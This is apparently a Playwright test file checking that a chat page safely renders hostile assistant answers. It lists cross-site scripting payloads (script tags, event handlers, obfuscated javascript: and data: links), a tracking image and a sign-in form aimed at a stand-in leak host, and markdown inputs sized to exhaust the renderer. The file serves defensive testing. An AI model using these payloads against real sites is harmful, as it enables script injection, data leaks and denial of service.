"""Answers and documents that want to do harm."""

import pytest
from playwright.sync_api import expect
from tests.page.conftest import OpenPage, Site
from tests.page.reader import Reader

HOSTILE = {
    "script": "<script>window.harmed = 1</script> end",
    "handler": '<img src="x" onerror="window.harmed = 1"> <b onclick="window.harmed = 1">bold</b> end',
    "svg": '<svg onload="window.harmed = 1"><a href="javascript:window.harmed = 1">x</a></svg> end',
    "frame": '<iframe srcdoc="<script>parent.harmed = 1</script>"></iframe> end',
    "javascript": "[press](javascript:window.harmed=1) [tab](java\tscript:window.harmed=1) "
    "[entity](&#106;avascript:window.harmed=1) <javascript:window.harmed=1> end",
    "data": "[press](data:text/html,<script>window.harmed=1</script>) end",
    "image": "![pixel](https://leak.example/p.png?secret=1) ![data](data:image/svg+xml,<svg/onload=harmed=1>) end",
    "reference": "[press][x] end\n\n[x]: javascript:window.harmed=1",
    "autolink": "javascript:window.harmed=1 //leak.example/x end",
    "style": '<style>body { display: none }</style><p style="position: fixed; inset: 0">over</p> end',
    "form": '<form action="https://leak.example"><button>Sign in</button></form> end',
    "code": "```html\n<script>window.harmed = 1</script>\n```\n\nend",
    "language": '```"><script>window.harmed=1</script>\nx\n```\n\nend',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_answer_does_nothing(shared: Site, open_page: OpenPage, name: str) -> None:
    page = open_page(shared)
    shared.talk.said[name] = HOSTILE[name]
    answer = Reader(page).ask(f"say {name}")
    expect(answer).to_contain_text("end")
    for word in ("press", "tab", "entity", "bold", "x"):
        for target in answer.get_by_role("link", name=word, exact=True).all():
            assert (target.get_attribute("href") or "").startswith(("http://", "https://", "mailto:"))
    assert page.evaluate("window.harmed === undefined")
    inside = answer.locator(".answer")
    assert inside.locator("script, iframe, img, style, object, embed, form[action], [onclick], [onerror]").count() == 0
    assert page.locator("body").is_visible()


def test_a_bomb_leaves_the_page_alive(shared: Site, open_page: OpenPage) -> None:
    page = open_page(shared)
    reader = Reader(page)
    shared.talk.said["rows"] = "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 10_000
    shared.talk.said["line"] = "word " * 40_000
    shared.talk.said["quotes"] = ">" * 5_000 + " deep"
    shared.talk.said["brackets"] = "[" * 20_000 + "a" + "](x)" * 20_000
    shared.talk.said["stars"] = "*a **b " * 10_000
    for name in ("rows", "line", "quotes", "brackets", "stars"):
        reader.ask(f"say {name}")
    expect(reader.turns.first.get_by_role("row").nth(100)).to_be_attached()
    assert reader.turns.first.get_by_role("row").count() < 1_000
    expect(reader.ask("still there")).to_contain_text("You said: still there")
